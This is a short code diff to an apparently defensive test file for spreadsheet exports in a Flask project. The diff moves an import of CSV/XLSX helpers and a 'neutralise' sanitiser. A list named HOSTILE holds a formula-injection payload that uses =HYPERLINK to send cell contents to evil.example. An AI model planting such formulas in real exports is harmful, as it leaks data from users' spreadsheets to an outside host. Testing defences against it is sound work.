@@ -12,7 +12,7 @@ from flask_babel import force_locale
 from openpyxl import load_workbook
 
 from eduinnov.achievements.models import Level
-from eduinnov.reports.exports import Column, columns_from_dataframe, neutralise, to_csv, to_xlsx
+from eduinnov.core.tabular import Column, columns_from_dataframe, neutralise, to_csv, to_xlsx
 
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
